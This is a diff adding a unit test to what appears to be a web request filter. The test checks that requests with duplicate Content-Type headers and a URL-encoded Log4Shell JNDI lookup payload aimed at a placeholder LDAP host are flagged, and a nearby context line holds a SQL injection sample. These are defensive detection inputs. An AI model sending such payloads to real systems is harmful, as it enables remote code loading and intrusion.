@@ -115,6 +115,14 @@ class Files(unittest.TestCase):
         self.assertEqual(done.stderr, b"")
         return [json.loads(x) for x in done.stdout.splitlines()]
 
+    def test_several_types_are_one_list(self):
+        """As in the module: readers take the first or the last one, so it is told, and the lookup is found."""
+        path = self.file(RULES)
+        for body, want in ((b"a=b", "limit"), (b"a=%24%7Bjndi:ldap://x/a%7D", "lookup")):
+            request = (b"POST / HTTP/1.1\nHost: a\nContent-Type: application/x-www-form-urlencoded\ncontent-type: text/plain\n"
+                       b"Content-Length: %d\n\n%s" % (len(body), body))
+            self.assertEqual(self.tried(path, request)[0]["why"], want)
+
     def test_pipelined_requests(self):
         path = self.file(RULES)
         note = b'{"note":"a UNION  SELECT b"}'
